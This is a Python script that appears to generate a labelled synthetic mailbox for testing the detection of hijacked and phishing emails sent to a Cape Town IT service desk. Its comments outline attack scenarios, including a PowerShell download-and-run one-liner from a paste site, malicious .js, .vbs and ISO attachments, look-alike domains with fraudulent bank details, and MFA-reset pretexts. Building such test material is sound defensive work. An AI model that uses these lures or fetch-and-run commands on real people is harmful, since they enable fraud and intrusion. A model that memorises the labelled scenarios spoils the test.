#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-17.py OUT_DIR
#
# Probe mailbox "sipho": Sipho Dlamini, service-desk lead at Tafelberg IT Services (managed IT service provider, Cape Town,
# Google Workspace; he replies from Gmail web and through the Zammad-style ticket system "desk.tafelberg-it.example", whose
# replies carry the "[MSP-nnnn]" tag and its own Message-ID shape). English with some Afrikaans. Sept 2024 - May 2025.
# Correspondents, each with a fixed fingerprint (Message-ID shape, client headers, Received path, DKIM d=/s=, quote style, tz):
#   Karoo Logistics (M365, Outlook desktop, ZA tenant)   Bergvliet Wines (on-prem Exchange 2019, no DKIM)
#   Atlantic Dental (Zoho Mail)                          Muizenberg Surf Co (Afrihost, Roundcube + iPhone)
#   Khumalo Architects (cPanel/Exim, Thunderbird)        Rondebosch Physio (Axxess, Open-Xchange webmail)
#   Paarl Engineering (on-prem Exchange 2019, Afrikaans) Southern Cross Freight (M365, Outlook web)
#   Adams & Co accountants (M365), Tricor Distribution (distributor, M365), SentryWall (US firewall vendor, Salesforce-style
#   support portal, America/Chicago with DST), Vaultline Backup (UK, Google Workspace, GMT/BST), Microsoft Partner Center
#   notices, colleague engineer Werner Visser (Thunderbird on Google Workspace), the ticket system's notifications.
# Writes OUT_DIR/labels.tsv, OUT_DIR/scenarios.tsv (file -> scenario id, description) and
# OUT_DIR/mailboxes/sipho/{INBOX,Sent}/N.eml numbered in arrival order across both folders. Only test messages are labelled;
# earlier messages are context. Deterministic (random.Random(17)); no network; attachments are inert (random bytes, text).
#
# Threads: T1 Karoo onboarding; T2 [MSP-4521] Karoo printer offline; T3 [MSP-4533] Bergvliet Outlook crashing;
#   T4 Atlantic Dental X-ray PC; T5 Muizenberg POS printer; T6 Khumalo VPN client; T7 [MSP-4387] Rondebosch (Nov 2024);
#   T8 Paarl Engineering Afrikaans server room; T9 SCF laptops quote; T10 SCF M365 licences / VPN; T11 Adams invoice query;
#   T12 Tricor Dell quote; T13 Tricor bank-detail change; T14 Tricor account-manager handover; T15 SentryWall case;
#   T16 Vaultline renewal (UK); T17 Werner scripts; T18 Werner configs; T19 Werner / Karoo printer fix; T20 Karoo MD / MFA;
#   T21 Bergvliet Afrikaans mixer; T22 Paarl FW advisory; T23 dormant Muizenberg quote (7 months); T24 Karoo firewall rules
#   (reply-all adds new IT person); T25 Atlantic Dental screenshot; T26 Tricor invoice (stand-alone); T27 Khumalo NAS;
#   T28 Rondebosch remote session (own ScreenConnect); T29 SCF new user; T30 Karoo licence true-up; T31 [MSP-4602] Paarl UPS;
#   plus stand-alone notices (ticket system, Partner Center, SentryWall) and the welcome mail + NDR.
#
# Hijacks (14):
#   A1  T3  server-hijack      Bergvliet's real Exchange 2019 (same headers), "the log you asked for" zip holding a .js
#   A2  T10 account-takeover   SCF M365 account: eM Client, foreign IP, Date -0400, 03:10 SAST, link to "new VPN client" .msi on a hacked WordPress site
#   A3  T12 lookalike-domain   tricor-dlst.example "IT invoice overdue", new FNB account (branch code + account no.), quotes real thread
#   A4  T19 account-takeover   colleague Werner's account via Gmail web: PowerShell one-liner iex(iwr ...) from a paste site, text only
#   A5  T4  account-takeover   Atlantic Dental Zoho account: reply with a .vbs attachment
#   A6  T5  server-hijack      Muizenberg Afrihost Roundcube (same headers): ISO "driver pack"
#   A7  T15 server-hijack      SentryWall portal notification (real portal headers), "view case" link on a look-alike portal domain
#   A8  T20 display-name-spoof Karoo MD "Johan Botha" from Gmail: new phone, reset MFA and create a new admin account
#   A9  T1  display-name-spoof "Michelle van Wyk" from outlook.com: read me the code you just got / approve the push
#   A10 --  fake-thread        stranger "RE: Your Microsoft 365 renewal" with a fabricated quote of Sipho, unknown References
#   A11 T6  server-hijack      Khumalo cPanel mailbox: quote of Sipho's mail is real except the VPN download link
#   A12 T8  account-takeover   Paarl Engineering Afrikaans thread: English "shared document" lure via OWA from a foreign IP
#   A13 T11 lookalike-domain   adams-co-acc0untants look-alike: HTML attachment fake Microsoft login
#   A14 T7  account-takeover   Rondebosch Axxess webmail replies to a 5-month-old ticket with a ScreenConnect link on an unknown domain
#
# Genuine hard cases (28):
#   G1  T17 Werner sends his usual .ps1 (he always sends .ps1 files)       G2  T18 Werner zipped FortiGate-style config backups
#   G3  T17 Werner links to the vendor download pages he always uses        G4  --  ticket system notification "[MSP-4521]" (no In-Reply-To)
#   G5  --  ticket system SLA-breach warning "[MSP-4533]"                  G6  --  Microsoft Partner Center notice, many links
#   G7  --  second Partner Center notice (billing / NCE)                   G8  T25 client sends a screenshot .png of an error
#   G9  T5  Muizenberg owner from his iPhone at 23:04                      G10 T1  new staff member (introduced earlier) writes herself
#   G11 T11 accountant asks about an invoice; MSP's real bank details already in the thread
#   G12 T3  Exchange "Automatic reply" out of office                        G13 --  Google NDR for a mistyped address (Sent just before)
#   G14 T14 distributor's new account manager writes after the announced handover
#   G15 T28 client clicks the MSP's OWN ScreenConnect link (domain known in thread)
#   G16 T13 distributor's real bank-change letter (PDF), later verified by phone and confirmed in Sent
#   G17 T13 the first invoice with the new (verified) bank details
#   G18 T21 Afrikaans reply in an English thread from a client who mixes
#   G19 T22 forwarded vendor advisory "FW:" with PDF
#   G20 T23 quote thread revived after 7 months
#   G21 T24 reply-all adding the client's new IT person in Cc              G22 T24 that new IT person replying himself
#   G23 T16 UK vendor reply after the BST change (+0100)                    G24 T15 genuine SentryWall portal case update with view link
#   G24b T15 SentryWall case update after the US DST change (CDT -0500), link to the portal's downloads
#   G25 T2  client sends a SharePoint link to the printer manual (first link ever in the thread)
#   G26 T20 Karoo MD from his iPad at 06:10 on a Saturday (real account)   G27 T27 Khumalo sends a zipped NAS support bundle Sipho requested
# Genuine orphans: O1 Werner's reply in a thread started before Sipho was Cc'd (parent not in mailbox);
#   O2 T31 Paarl client replies to the ticket system's auto-acknowledgement of [MSP-4602], which only went to him (parent not in mailbox).
# Plain genuine replies: every other labelled in-thread partner reply (genuine-reply).
import base64, datetime, hashlib, html as H, io, os, quopri, random, struct, sys, uuid, zipfile, zlib
from zoneinfo import ZoneInfo

root = sys.argv[1]
MB = "sipho"
for f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{f}", exist_ok=True)
R = random.Random(17)
SAST = ZoneInfo("Africa/Johannesburg"); LON = ZoneInfo("Europe/London"); CHI = ZoneInfo("America/Chicago")
PAC = ZoneInfo("America/Los_Angeles"); UTC = datetime.timezone.utc; NYC = ZoneInfo("America/New_York")


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def at(y, mo, d, h, mi, tz=SAST): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)


class Pt:
    def __init__(s, name, email, client, infra, sig="", tz=SAST, lang="en"):
        s.name, s.email, s.client, s.infra, s.sig, s.tz, s.lang = name, email, client, infra, sig, tz, lang
        s.dom = email.split("@")[1]


OWN = "tafelberg-it.example"
SIG_ME = ("\n\nRegards\nSipho Dlamini\nService Desk Lead | Tafelberg IT Services\n"
          "+27 21 555 0142 | support@tafelberg-it.example\nUnit 4, Montague Gardens Business Park, Cape Town")
me = Pt("Sipho Dlamini", f"sipho@{OWN}", "gmailweb", "own", SIG_ME)
desk = Pt("Sipho Dlamini | Tafelberg IT Support", f"support@{OWN}", "desk", "own",
          "\n\nSipho Dlamini\nService Desk Lead\nTafelberg IT Services | 021 555 0140 | support@tafelberg-it.example\n"
          "Please keep the [MSP-nnnn] tag in the subject when replying.")
helpdesk = Pt("Tafelberg IT Helpdesk", f"helpdesk@{OWN}", "desknote", "desk")
werner = Pt("Werner Visser", f"werner@{OWN}", "tb", "google-int",
            "\n\n-- \nWerner Visser\nSenior Systems Engineer | Tafelberg IT Services\n082 555 7314")
# clients
michelle = Pt("Michelle van Wyk", "michelle@karoologistics.example", "exo", "exo-karoo",
              "\n\nKind regards\nMichelle van Wyk\nOffice Manager\nKaroo Logistics (Pty) Ltd\n14 Marine Drive, Paarden Eiland, Cape Town\nTel: 021 555 3810")
johan = Pt("Johan Botha", "johan@karoologistics.example", "exo", "exo-karoo",
           "\n\nJohan Botha\nManaging Director\nKaroo Logistics (Pty) Ltd\nCell: 083 555 2091")
thandi = Pt("Thandi Nkosi", "thandi@karoologistics.example", "exo", "exo-karoo",
            "\n\nThanks\nThandi Nkosi\nDispatch Coordinator\nKaroo Logistics (Pty) Ltd\nTel: 021 555 3816")
ravi = Pt("Ravi Pillay", "ravi@karoologistics.example", "exo", "exo-karoo",
          "\n\nRavi Pillay\nIT Coordinator\nKaroo Logistics (Pty) Ltd\nTel: 021 555 3822")
annelie = Pt("Annelie du Toit", "annelie@bergvlietwines.example", "ex19", "ex19-bergvliet",
             "\n\nGroete / Regards\nAnnelie du Toit\nKantoorbestuurder | Office Manager\nBergvliet Wines\nR310, Stellenbosch | 021 555 4470")
nadia = Pt("Dr Nadia Abrahams", "nadia@atlanticdental.example", "zoho", "zoho-atl",
           "\n\nDr Nadia Abrahams\nAtlantic Dental Studio\n22 Main Road, Sea Point\n021 555 6620")
fatima = Pt("Fatima Jacobs", "reception@atlanticdental.example", "zoho", "zoho-atl",
            "\n\nFatima Jacobs\nReception | Atlantic Dental Studio\n021 555 6620")
greg = Pt("Greg Thompson", "greg@muizenbergsurf.example", "roundcube", "afrihost-muiz",
          "\n\nCheers\nGreg\nMuizenberg Surf Co. | Beach Road, Muizenberg | 021 555 7788")
sizwe = Pt("Sizwe Khumalo", "sizwe@khumaloarchitects.example", "tbk", "cpanel-khumalo",
           "\n\n-- \nSizwe Khumalo\nPrincipal Architect (Pr. Arch)\nKhumalo Architects\n3rd Floor, 88 Bree Street, Cape Town\n021 555 9034")
lindiwe = Pt("Lindiwe Mokoena", "lindiwe@rondeboschphysio.example", "ox", "axxess-rondebosch",
             "\n\nKind regards,\nLindiwe Mokoena\nPractice Manager\nRondebosch Physiotherapy\n021 555 2270")
hendrik = Pt("Hendrik Steyn", "hendrik@paarlengineering.example", "ex19p", "ex19-paarl",
             "\n\nGroete\nHendrik Steyn\nBedryfsbestuurder\nPaarl Engineering Works (Edms) Bpk\nTel 021 555 8801 | Sel 082 555 1933", lang="af")
aisha = Pt("Aisha Patel", "aisha.patel@southerncrossfreight.example", "owa", "exo-scf",
           "\n\nRegards,\nAisha Patel\nOperations & Office Manager\nSouthern Cross Freight\nT: 021 555 6402")
bronwyn = Pt("Bronwyn Adams", "bronwyn@adamsco-accountants.example", "exo", "exo-adams",
             "\n\nKind regards\nBronwyn Adams CA(SA)\nAdams & Co Chartered Accountants\nClaremont, Cape Town | 021 555 1180")
# vendors
rudi = Pt("Rudi Pretorius", "rudi.pretorius@tricor-dist.example", "exo", "exo-tricor",
          "\n\nRegards\nRudi Pretorius\nAccount Manager - Western Cape\nTricor Distribution (Pty) Ltd\nM: 082 555 4410 | T: 021 555 0900")
nomvula = Pt("Nomvula Zulu", "nomvula.zulu@tricor-dist.example", "exo", "exo-tricor",
             "\n\nKind regards\nNomvula Zulu\nAccount Manager - Western Cape\nTricor Distribution (Pty) Ltd\nM: 071 555 8023 | T: 021 555 0900")
tricor_acc = Pt("Tricor Credit Control", "creditcontrol@tricor-dist.example", "exo", "exo-tricor",
                "\n\nLerato Mokoena\nCredit Controller\nTricor Distribution (Pty) Ltd\nT: 011 555 3300 (ext. 214)")
sentry = Pt("SentryWall Support", "support@sentrywall.example", "sfdc", "sfdc", tz=CHI)
oliver = Pt("Oliver Hughes", "oliver.hughes@vaultline.example", "gws", "google-vault",
            "\n\nBest wishes,\nOliver Hughes\nChannel Account Manager, EMEA\nVaultline Backup Ltd\n+44 20 7946 0321", tz=LON)
msft = Pt("Microsoft Partner Center", "partnercenter-noreply@microsoft.example", "mspc", "msft", tz=UTC)
gdsn = Pt("Mail Delivery Subsystem", "mailer-daemon@googlemail.com", "dsn", "gdsn")

# helo/rdns, ip, dkim d, dkim s (None = unsigned), envelope domain (None = From domain), dmarc policy
INFRA = {
    "own": None,
    "google-int": ("mail-sor-f41.google.com", "209.85.220.41", OWN, "google", None, "quarantine"),
    "desk": ("desk.tafelberg-it.example", "102.132.218.40", OWN, "desk2024", "bounce.tafelberg-it.example", "quarantine"),
    "exo-karoo": ("mail-jnb01on2071.outbound.protection.outlook.com", "40.107.201.71", "karoologistics.example", "selector1", None, "none"),
    "exo-scf": ("mail-jnb01on2104.outbound.protection.outlook.com", "40.107.201.104", "southerncrossfreight.example", "selector2", None, "quarantine"),
    "exo-adams": ("mail-cpt01on2088.outbound.protection.outlook.com", "40.107.202.88", "adamsco-accountants.example", "selector1", None, "none"),
    "exo-tricor": ("mail-jnb01on2122.outbound.protection.outlook.com", "40.107.201.122", "tricor-dist.example", "selector1", None, "reject"),
    "ex19-bergvliet": ("mail.bergvlietwines.example", "196.22.144.37", None, None, None, None),
    "ex19-paarl": ("smtp.paarlengineering.example", "41.76.109.18", None, None, None, None),
    "zoho-atl": ("sender4-op-o14.zoho.com", "136.143.188.14", "atlanticdental.example", "zmail", None, "none"),
    "afrihost-muiz": ("outgoing3.mail.afrihost.example", "169.1.18.213", "muizenbergsurf.example", "afr2023", None, None),
    "cpanel-khumalo": ("cp41.jhb.hostafrica.example", "197.221.12.140", "khumaloarchitects.example", "default", None, None),
    "axxess-rondebosch": ("smtp02.axxess.example", "41.203.18.60", None, None, None, None),
    "sfdc": ("smtp-0f1a2b.mta.sentrywall-mail.example", "13.110.6.221", "sentrywall.example", "sf2021", "bounces.sentrywall.example", "reject"),
    "google-vault": ("mail-wm1-f47.google.com", "209.85.128.47", "vaultline.example", "google", None, "none"),
    "msft": ("mail-bn8nam12on2053.outbound.protection.outlook.com", "40.107.237.53", "microsoft.example", "s1024-meo", "email.microsoft.example", "reject"),
    "gmail": ("mail-ej1-f53.google.com", "209.85.218.53", "gmail.com", "20230601", None, "none"),
    "outlookcom": ("EUR05-AM6-obe.outbound.protection.outlook.com", "52.100.174.211", "outlook.com", "selector1", None, "none"),
    "gdsn": None,
    # attackers
    "look-tricor": ("mail.tricor-dlst.example", "185.222.58.141", "tricor-dlst.example", "default", None, None),
    "look-adams": ("vps-2291.contaboserver.example", "62.171.154.32", "adams-co-acc0untants.example", "mail", None, None),
    "fake-renew": ("mx1.m365-licensing-renewals.example", "91.92.245.17", "m365-licensing-renewals.example", "k1", None, None),
}

EXO_HOST = {"karoologistics.example": "JNAP275MB0412", "southerncrossfreight.example": "JN2P275MB1873",
            "adamsco-accountants.example": "CT1P275MB0097", "tricor-dist.example": "JNAP275MB2291"}
TENANT = {d: ruuid() for d in EXO_HOST}
EXCH_SRV = {"bergvlietwines.example": ("BWEX01", "bergvliet.local", "10.10.1.5"), "paarlengineering.example": ("PEW-EXCH19", "paarleng.local", "192.168.40.10")}


def make_mid(who, client, t):
    if client in ("gmailweb", "gws", "gmail"): return "<CA" + base64.urlsafe_b64encode(rbytes(42)).decode()[:R.choice((52, 54, 55))] + "@mail.gmail.com>"
    if client == "desk": return f"<desk.{int(t.timestamp())}.{hx(10)}@desk.{OWN}>"
    if client == "desknote": return f"<notification.{int(t.timestamp())}.{hx(8)}@desk.{OWN}>"
    if client in ("exo", "owa"):
        host = EXO_HOST[who.dom]; return f"<{host}{HX(16)}@{host}.ZAFP275.PROD.OUTLOOK.COM>"
    if client in ("ex19", "ex19p"):
        srv, ad, _ = EXCH_SRV[who.dom]; return f"<{hx(32)}@{srv}.{ad}>"
    if client == "zoho": return f"<{hx(11)}.{hx(11)}.{R.randint(10**18, 10**19 - 1)}@{who.dom}>"
    if client == "roundcube": return f"<{hx(32)}@{who.dom}>"
    if client in ("iphone", "ipad"): return f"<{ruuid().upper()}@{who.dom}>"
    if client in ("tb", "tbk"): return f"<{ruuid()}@{who.dom}>"
    if client == "ox": return f"<{R.randint(100000, 999999)}.{R.randint(100, 9999)}.{int(t.timestamp() * 1000)}@webmail.axxess.example>"
    if client == "sfdc": return f"<{alnum(20)}00000000000000000000000000000000000000000000000{alnum(4)}{alnum(26)}@sfdc.net>"
    if client == "mspc": return f"<{HX(8)}.{R.randint(10**6, 10**7)}.{int(t.timestamp())}@mail.microsoft.example>"
    if client == "outlookcom": return f"<AM6PR07MB{R.randint(1000, 9999)}{HX(16)}@AM6PR07MB{R.randint(1000, 9999)}.eurprd07.prod.outlook.com>"
    if client == "emclient": return f"<em{ruuid()}@desktop-{alnum(7).lower()}>"
    return f"<{hx(24)}@{who.dom}>"


def _lines(text, pfx="> "): return "\n".join(pfx + l if l else pfx.rstrip() for l in text.split("\n"))


def quote_of(client, q):
    """plain-text quote block of record q as the replying client writes it"""
    t = q["t"].astimezone(SAST); name, email = q["name"], q["email"]
    if client in ("gmailweb", "gws", "gmail"):
        t2 = q["t"].astimezone(LON) if client == "gws" else t
        return f"\n\nOn {t2:%a}, {t2.day} {t2:%b} {t2.year} at {t2:%H:%M}, {name} <{email}> wrote:\n\n" + _lines(q["plain"])
    if client in ("exo", "owa", "ex19", "ex19p", "outlookcom"):
        tos = "; ".join(f"{n} <{e}>" for n, e in q["to"])
        rows = [("From", f"{name} <{email}>"), ("Sent", f"{t:%A}, {t:%d} {t:%B} {t.year} {t:%H:%M}"), ("To", tos)]
        if q["cc"]: rows.append(("Cc", "; ".join(f"{n} <{e}>" for n, e in q["cc"])))
        rows.append(("Subject", q["subj"]))
        sep = "________________________________\n" if client in ("owa", "outlookcom") else ""
        return "\n\n" + sep + "\n".join(f"{k}: {v}" for k, v in rows) + "\n\n" + q["plain"]
    if client == "zoho":
        return f"\n\n\n---- On {t:%a, %d %b %Y %H:%M:%S %z} {name} <{email}> wrote ---\n\n" + _lines(q["plain"])
    if client == "roundcube": return f"\n\nOn {t:%Y-%m-%d %H:%M}, {name} wrote:\n" + _lines(q["plain"])
    if client in ("iphone", "ipad"): return f"\n\n> On {t.day} {t:%b} {t.year}, at {t:%H:%M}, {name} <{email}> wrote:\n> \n" + _lines(q["plain"])
    if client == "tbk": return f"\n\nOn {t:%Y/%m/%d} {t:%H:%M}, {name} wrote:\n" + _lines(q["plain"])
    if client == "tb": return f"\n\nOn {t:%d/%m/%Y} {t:%H:%M}, {name} wrote:\n" + _lines(q["plain"])
    if client == "ox": return f"\n\n> On {t:%d %B %Y} at {t:%H:%M} {name} <{email}> wrote:\n> \n" + _lines(q["plain"])
    if client == "desk": return f"\n\nOn {t:%d/%m/%Y %H:%M}, {name} wrote:\n" + _lines(q["plain"])
    if client == "emclient": return f"\n\n------ Original Message ------\nFrom \"{name}\" <{email}>\nDate {t:%Y/%m/%d %H:%M:%S}\nSubject {q['subj']}\n\n" + q["plain"]
    return "\n\n" + _lines(q["plain"])


def html_of(client, plain):
    esc = "<br>\n".join(H.escape(l) for l in plain.split("\n"))
    if client in ("exo", "owa", "outlookcom"):
        return ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n<style type="text/css" style="display:none;"> '
                'P {margin-top:0;margin-bottom:0;} </style>\n</head>\n<body dir="ltr">\n<div class="elementToProof" style="font-family: Aptos, '
                'Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">\n' + esc + "</div>\n</body>\n</html>")
    if client in ("ex19", "ex19p"):
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" '
                'content="text/html; charset=utf-8">\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n</head>\n<body lang="EN-ZA" '
                'link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n<div class="WordSection1">\n<p class="MsoNormal">' + esc + "</p>\n</div>\n</body>\n</html>")
    if client in ("gmailweb", "gws", "gmail"): return '<div dir="ltr">' + esc + "</div>\n"
    if client == "zoho":
        return ('<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head>'
                '<body ><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>' + esc + "</div></div><br></body></html>")
    if client == "ox": return '<!doctype html>\n<html>\n <head>\n  <meta charset="UTF-8">\n </head>\n <body>\n  <div>\n   ' + esc + "\n  </div>\n </body>\n</html>"
    if client == "desk":
        return ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Helvetica,Arial,sans-serif;'
                'font-size:14px"><div>' + esc + "</div></body></html>")
    return None


def pac(t): return t.astimezone(PAC).strftime("%a, %d %b %Y %H:%M:%S %z (%Z)")
def rfc(t, tz=None): return (t.astimezone(tz) if tz else t).strftime("%a, %d %b %Y %H:%M:%S %z")
def rfcu(t): return t.astimezone(UTC).strftime("%a, %-d %b %Y %H:%M:%S +0000")


def sender_hops(who, infra, t, env, client, orig_ip=None):
    """Received lines written on the sender's side, newest first"""
    hops = []
    if infra.startswith("exo"):
        host = EXO_HOST[who.dom]; host2 = host[:-4] + str(R.randint(1000, 9999))
        hops.append(("Received", f"from {host}.ZAFP275.PROD.OUTLOOK.COM ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {host}.ZAFP275.PROD.OUTLOOK.COM\n"
                                 f" ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%5]) with mapi id 15.20.8722.031; {rfcu(t)}") if client != "emclient" else
                    ("Received", f"from DESKTOP-{HX(7)} ({orig_ip}) by {host}.ZAFP275.PROD.OUTLOOK.COM ({'2603:1086:' + hx(4) + '::' + hx(2)}) with Microsoft SMTP\n"
                                 f" Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8722.031; {rfcu(t)}"))
        hops.insert(0, ("Received", f"from {host}.ZAFP275.PROD.OUTLOOK.COM (2603:1086:201:{hx(2)}::{hx(2)}) by\n {host2}.ZAFP275.PROD.OUTLOOK.COM (2603:1086:201:{hx(2)}::{hx(1)})"
                                    f" with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8722.031; {rfcu(t + datetime.timedelta(seconds=1))}"))
    elif infra.startswith("ex19"):
        srv, ad, lan = EXCH_SRV[who.dom]
        hops.append(("Received", f"from {srv}.{ad} ({lan}) by {srv}.{ad}\n ({lan}) with Microsoft SMTP Server (version=TLS1_2,\n"
                                 f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.11 via Frontend Transport; {rfc(t, SAST)}"))
        hops.insert(0, ("Received", f"from {srv}.{ad} ([{lan}])\n\tby {INFRA[infra][0]} (Postfix) with ESMTPS id {HX(10)}\n\tfor <{me.email}>; {rfc(t + datetime.timedelta(seconds=2), SAST)}"))
    elif infra == "zoho-atl":
        hops.append(("Received", f"from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {int(t.timestamp() * 1000)}{R.randint(100, 999)}.{R.randint(100, 999)}{R.randint(100, 999)}"
                                 f"{R.randint(100, 999)}{R.randint(100, 999)}; {pac(t)}"))
    elif infra == "afrihost-muiz":
        if client == "iphone":
            hops.append(("Received", f"from [105.245.{R.randint(1, 250)}.{R.randint(1, 250)}] (port={R.randint(50000, 65000)} helo=[10.{R.randint(0, 200)}.{R.randint(0, 250)}.{R.randint(1, 250)}])\n"
                                     f"\tby {INFRA[infra][0]} with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <{env}>)\n"
                                     f"\tid 1t{alnum(4)}-00{alnum(4)}-{alnum(2)}\n\tfor {me.email}; {rfc(t, SAST)}"))
        else:
            hops.append(("Received", f"from [127.0.0.1] (helo=webmail.afrihost.example)\n\tby {INFRA[infra][0]} with esmtpa (Exim 4.96.2)\n\t(envelope-from <{env}>)\n"
                                     f"\tid 1t{alnum(4)}-00{alnum(4)}-{alnum(2)}\n\tfor {me.email}; {rfc(t, SAST)}"))
    elif infra == "cpanel-khumalo":
        hops.append(("Received", f"from [196.{R.choice((209, 210, 211))}.{R.randint(1, 250)}.{R.randint(1, 250)}] (port={R.randint(50000, 65000)} helo=[192.168.1.{R.randint(20, 60)}])\n"
                                 f"\tby {INFRA[infra][0]} with esmtpsa  (TLS1.3) tls TLS_AES_128_GCM_SHA256\n\t(Exim 4.97.1)\n\t(envelope-from <{env}>)\n"
                                 f"\tid 1t{alnum(4)}-0000{alnum(2)}-{alnum(2)}\n\tfor {me.email};\n\t{rfc(t, SAST)}"))
    elif infra == "axxess-rondebosch":
        hops.append(("Received", f"from appsuite-web03.axxess.example (appsuite-web03.axxess.example [10.20.4.{R.randint(10, 20)}])\n\tby {INFRA[infra][0]} (Postfix) with ESMTPSA id {HX(10)}"
                                 f"\n\tfor <{me.email}>; {rfc(t, SAST)}"))
    elif infra == "google-int":
        if client == "gmailweb":
            hops.append(("Received", f"by 2002:a05:6512:{hx(3)}:b0:{hx(3)}:{hx(3)}:{hx(4)} with HTTP; {pac(t)}"))
        else:
            hops.append(("Received", f"from [192.168.10.44] (41-{R.randint(100, 199)}-{R.randint(1, 250)}-{R.randint(1, 250)}.dsl.vumatel.example. [41.{R.randint(100, 199)}.{R.randint(1, 250)}.{R.randint(1, 250)}])\n"
                                     f"        by smtp.gmail.com with ESMTPSA id {hx(16)}sm{R.randint(1000000, 9999999)}.{R.randint(10, 99)}.{t.year}.{R.randint(10, 99)}.{R.randint(10, 99)}\n"
                                     f"        for <{me.email}>\n        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        {pac(t)}"))
    elif infra == "desk":
        hops.append(("Received", f"from desk.{OWN} (desk.{OWN}. [102.132.218.40])\n        by smtp-relay.gmail.com with ESMTPS id {hx(16)}sm{R.randint(100000, 999999)}\n"
                                 f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {pac(t)}"))
    elif infra in ("google-vault", "gmail"):
        hops.append(("Received", f"by {INFRA[infra][0]} with SMTP id {hx(16)}so{R.randint(1000000, 9999999)}{alnum(2).lower()}.1\n        for <{me.email}>; {pac(t)}"))
    elif infra == "sfdc":
        hops.append(("Received", f"from [10.{R.randint(1, 250)}.{R.randint(1, 250)}.{R.randint(1, 250)}] ([10.{R.randint(1, 250)}.{R.randint(1, 250)}.{R.randint(1, 250)}:{R.randint(40000, 60000)}] "
                                 f"helo=na{R.randint(100, 199)}-app1-{R.randint(1, 40)}-ia4.ops.sfdc.net)\n\tby mx2-ia4-sp3.mta.sentrywall-mail.example (envelope-from <{env}>)\n"
                                 f"\t(ecelerity 4.5.0.73419 r(msys-ecelerity:tags/4.5.0.1-cs)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384)\n\tid {R.randint(10, 99)}/{hx(2).upper()}-{R.randint(10000, 99999)}-{hx(8)}; {t.astimezone(UTC):%a, %d %b %Y %H:%M:%S +0000}"))
    elif infra == "msft":
        hops.append(("Received", f"from BN8PR12MB{R.randint(1000, 9999)}.namprd12.prod.outlook.com (2603:10b6:408:{hx(3)}::{hx(2)}) by\n BN8NAM12FT0{R.randint(10, 99)}.mail.protection.outlook.com"
                                 f" (2603:10b6:408:{hx(3)}::{hx(1)}) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8722.029; {rfcu(t)}"))
    elif infra == "outlookcom":
        h = f"AM6PR07MB{R.randint(1000, 9999)}"
        hops.append(("Received", f"from {h}.eurprd07.prod.outlook.com ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {h}.eurprd07.prod.outlook.com\n"
                                 f" ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%7]) with mapi id 15.20.8722.027; {rfcu(t)}"))
    elif infra.startswith("look") or infra == "fake-renew":
        hops.append(("Received", f"from [{orig_ip or '102.89.47.' + str(R.randint(2, 250))}] (port={R.randint(50000, 65000)} helo=WIN-{HX(11)})\n\tby {INFRA[infra][0]} with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
                                 f"\t(Exim 4.96)\n\t(envelope-from <{env}>)\n\tid 1t{alnum(4)}-000{alnum(3)}-{alnum(2)}\n\tfor {me.email}; {rfc(t, UTC)}"))
    return hops


def transport(who, t, env=None, infra=None, client=None, orig_ip=None):
    infra = infra or who.infra
    env = env or who.email
    helo, ip, d, s, envdom, dmarc = INFRA[infra]
    if envdom: env = f"bounce+{hx(8)}={who.email.replace('@', '=')}@{envdom}" if infra != "desk" else f"bounce-{hx(6)}@{envdom}"
    tmx = t + datetime.timedelta(seconds=R.randint(2, 15))
    fromdom = who.email.split("@")[1]
    auth = f"mx.google.com;\n       " + (f"dkim=pass header.i=@{d} header.s={s} header.b={alnum(8)};\n       " if s else "")
    auth += f"spf=pass (google.com: domain of {env} designates {ip} as permitted sender) smtp.mailfrom={env if envdom else env.split('@')[1]}"
    if dmarc: auth += f";\n       dmarc=pass (p={dmarc.upper()} sp={dmarc.upper()} dis=NONE) header.from={fromdom}"
